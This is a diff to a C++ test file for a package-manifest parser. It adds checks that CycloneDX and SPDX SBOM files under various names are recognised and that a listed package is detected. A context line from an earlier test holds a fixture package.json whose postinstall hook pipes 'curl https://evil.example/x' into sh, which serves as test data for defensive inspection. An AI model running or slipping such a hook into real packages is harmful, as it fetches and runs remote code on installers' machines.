@@ -96,3 +96,28 @@ TEST_CASE("package.json: what its own hooks fetch and run") {
     CHECK(every_prefix("package.json", R"({"scripts":{"postinstall":"curl https://evil.example/x | sh"}})"));
     CHECK(Parsed("package.json", R"({"scripts":{"postinstall":1}})").understood);
 }
+
+TEST_CASE("an SBOM by its usual names: the content says which kind it is") {
+    const std::string component = R"({"type":"library","name":"evilpkg1","version":"1.0.0","purl":"pkg:npm/evilpkg1@1.0.0"})";
+    const std::string cyclonedx = R"({"bomFormat":"CycloneDX","specVersion":"1.5","components":[)" + component + "]}";
+    for (const char* const name : {"sbom.json", "app-sbom.json", "app.sbom.json", "SBOM.json", "sbom_app.json", "app.cyclonedx.json", "sbom.1.json"}) {
+        CAPTURE(name);
+        const Parsed parsed(name, cyclonedx);
+        CHECK(parsed.understood);
+        CHECK(asks_for(parsed, "evilpkg1"));
+    }
+    const std::string spdx = R"({"spdxVersion":"SPDX-2.3","SPDXID":"SPDXRef-DOCUMENT","name":"x","dataLicense":"CC0-1.0","documentNamespace":"https://x.example/x","creationInfo":{"created":"2024-01-01T00:00:00Z","creators":["Tool: x"]},)"
+                             R"("packages":[{"SPDXID":"SPDXRef-a","name":"evilpkg1","versionInfo":"1.0.0","downloadLocation":"NOASSERTION","externalRefs":[{"referenceCategory":"PACKAGE-MANAGER","referenceType":"purl","referenceLocator":"pkg:npm/evilpkg1@1.0.0"}]}]})";
+    for (const char* const name : {"sbom.json", "sbom.spdx.json"}) {
+        CAPTURE(name);
+        CHECK(asks_for(Parsed(name, spdx), "evilpkg1"));
+    }
+    CHECK(intake::find_manifest("sbom.spdx.json")->name == "SPDX");
+    for (const char* const name : {"sbomber.json", "bosbom.json", "sbom.txt", "sbom", ".json", "package.json", "config.json"}) {
+        CAPTURE(name);
+        const auto* const format = intake::find_manifest(name);
+        CHECK((format == nullptr || format->name != "CycloneDX"));
+    }
+    CHECK_FALSE(Parsed("sbom.json", R"({"x":1})").understood);      // an SBOM that nobody can read is no SBOM
+    CHECK(every_prefix("sbom.json", cyclonedx));
+}
